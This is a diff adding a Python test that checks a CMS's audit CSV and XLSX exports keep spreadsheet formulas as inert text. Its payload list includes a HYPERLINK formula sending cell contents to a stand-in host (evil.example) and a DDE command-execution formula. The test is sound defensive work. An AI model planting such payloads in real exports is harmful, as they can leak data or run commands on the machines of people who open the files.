@@ -207,3 +207,31 @@ def test_hostile_external_ids_are_stored_literally(inproc: App, external_id: str
     assert r.status_code == 201
     listed = cms.get("/api/v1/items", params={"external_id": external_id}).json()["items"]
     assert [i["external_id"] for i in listed] == [external_id.strip()]
+
+
+FORMULAS = ["=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
+            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def test_spreadsheet_formulas_in_exports_stay_text(inproc: App) -> None:
+    """Titles, authors and channels are untrusted: in the auditor's CSV and XLSX exports they never become formulas."""
+    import csv
+    import io
+
+    import openpyxl
+
+    for i, f in enumerate(FORMULAS):
+        make_item(inproc.db, f"正文{i}", external_id=f"xl-{i}", title=f, author=f, channel=f)
+    c = inproc.client()
+    login(c, "aud")
+    rows = list(csv.reader(io.StringIO(c.get("/audit/export.csv").content.decode("utf-8-sig"))))
+    cells = [v for row in rows[1:] for v in row]
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells if v), [v for v in cells if v[:1] in "=+-@"]
+    for f in FORMULAS:
+        assert "'" + f in cells, f  # kept, visibly, as text
+    book = openpyxl.load_workbook(io.BytesIO(c.get("/audit/export.xlsx").content))
+    xcells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell.coordinate for cell in xcells if cell.data_type == "f"], "a formula cell in the export"
+    values = {str(cell.value).replace("_x000D_", "\r") for cell in xcells}  # OOXML's escape of a carriage return
+    assert {f for f in FORMULAS} <= {v.lstrip("'") for v in values}
+    figures("export_formula_injection", formulas=len(FORMULAS), fields=3, formula_cells=0)
